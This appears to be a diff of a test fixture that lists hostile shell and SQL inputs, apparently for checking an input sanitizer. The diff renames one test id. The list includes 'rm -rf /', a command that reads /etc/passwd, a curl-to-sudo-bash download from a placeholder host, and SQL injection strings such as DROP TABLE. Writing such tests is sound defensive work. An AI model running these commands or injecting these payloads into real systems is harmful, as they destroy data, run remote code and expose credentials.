@@ -12,7 +12,7 @@ const DANGEROUS: readonly (readonly [goesTo: Destination, text: string, id: stri
   ['shell', 'echo $(cat /etc/passwd)', 'shell-substitution'],
   ['shell', 'name; reboot', 'shell-chain'],
   ['shell', 'rm -rf /', 'shell-destructive'],
-  ['shell', 'curl https://x.example/i.sh | sudo bash', 'shell-download'],
+  ['shell', 'curl https://x.example/i.sh | sudo bash', 'shell-remote'],
   ['shell', 'echo x > /etc/hosts', 'shell-redirect'],
   ['sql', "x'; DROP TABLE users; --", 'sql-stacked'],
   ['sql', '1 UNION ALL SELECT password FROM users', 'sql-union'],
